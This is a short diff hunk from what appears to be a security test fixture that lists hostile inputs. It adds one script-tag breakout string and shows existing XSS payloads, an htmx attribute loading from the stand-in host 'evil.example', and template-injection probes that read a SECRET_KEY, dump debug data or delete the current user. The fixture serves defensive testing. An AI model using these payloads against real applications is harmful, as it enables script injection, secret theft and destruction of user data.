@@ -14,6 +14,7 @@ MARKUP = (
     "&lt;script&gt;canary()&lt;/script&gt;", "<b hx-get=//evil.example/canary>x</b>",
     "\u02ba\uff1cscript\uff1ecanary()",
 )  # fmt: skip
+ANYWHERE = "\"'></title></textarea><script>canary()</script>"  # a script wherever it is not escaped
 TEMPLATES = (
     '{{"canary"|add:"eval"}}', "{% load i18n %}{{'canary'|add:'eval'}}", "${'canary'+'eval'}", "#{'canary'+'eval'}",
     "{{settings.SECRET_KEY}}", "{% debug %}", "{{request.user.delete}}", "{%", "{{", "%(name)s", "%s%s%n",
